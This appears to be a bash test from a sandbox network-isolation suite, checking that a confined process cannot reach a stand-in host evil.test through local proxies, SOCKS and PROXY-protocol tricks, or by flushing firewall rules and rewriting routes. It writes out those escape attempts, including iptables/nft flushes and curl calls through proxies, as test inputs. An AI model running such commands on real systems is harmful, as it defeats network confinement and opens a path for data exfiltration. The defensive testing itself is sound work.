#!/usr/bin/env bash
# The door from inside: a jar that talks to the listener itself, asks for a proxy in every dialect (N2, N18), or changes
# routes, interfaces and rules.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
allow allowed.test
program send_each
for port in {1..64} 1080 3128 8080 8888 15001; do
    echo "127.0.0.1 $port - CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\ndoor-words"
    echo "127.0.0.1 $port - GET http://evil.test/door-words HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    echo "127.0.0.1 $port - \x05\x01\x00\x05\x01\x00\x03\x17evil.test\x00.allowed.test\x01\xbbdoor-words"
    echo "127.0.0.1 $port - PROXY TCP4 127.0.0.1 93.184.216.12 9 443\r\nGET /door-words HTTP/1.1\r\nHost: evil.test\r\n\r\n"
done > lines
attack_shell '
    ip link add dummy0 type dummy; ip addr add 10.7.0.77/24 dev lo; ip route add default via 10.7.0.1; ip tuntap add mode tap; ip rule add from all lookup main
    ip route flush table local; ip link set lo mtu 576; nft flush ruleset; iptables -t nat -F; ip netns add x
    ./send_each lines
    curl -sS -m 3 -p -x http://allowed.test:80 https://evil.test/door-words & curl -sS -m 3 -x https://allowed.test:443 --proxy-insecure http://evil.test/door-words &
    curl -sS -m 3 -x socks5h://allowed.test:443 https://evil.test/door-words & wait'
all_silent evil evil-raw neighbour host-loopback host-any
receiver_silent dns evil
receiver_silent allowed door-words

attack curl -sS -m 4 https://allowed.test/by-name
receiver_got allowed 'GET /by-name'
